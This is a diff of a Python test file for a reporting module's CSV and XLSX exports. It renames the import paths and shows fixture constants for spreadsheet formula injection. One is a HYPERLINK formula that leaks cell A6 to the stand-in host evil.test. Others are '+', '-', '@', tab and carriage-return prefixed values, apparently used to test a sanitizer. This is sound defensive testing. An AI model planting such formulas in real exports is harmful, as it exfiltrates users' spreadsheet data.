@@ -11,11 +11,11 @@ from decimal import Decimal
 
 import pytest
 
-from tourstack.reporting.exports import to_csv, to_xlsx
-from tourstack.reporting.periods import Period
-from tourstack.reporting.runner import Column, ReportResult
-from tourstack.reporting.spec import parse_spec
-from tourstack.spreadsheets import csv_text, sheet_title
+from reports.builder.exports import to_csv, to_xlsx
+from reports.builder.periods import Period
+from reports.builder.runner import Column, ReportResult
+from reports.builder.spec import parse_spec
+from reports.render.safety import csv_text, sheet_title
 
 EVIL_TITLE = '=HYPERLINK("http://evil.test/?leak="&A6,"Open report")'
 AGENTS = ['=HYPERLINK("http://evil.test","x")', "+91 cmd", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR",
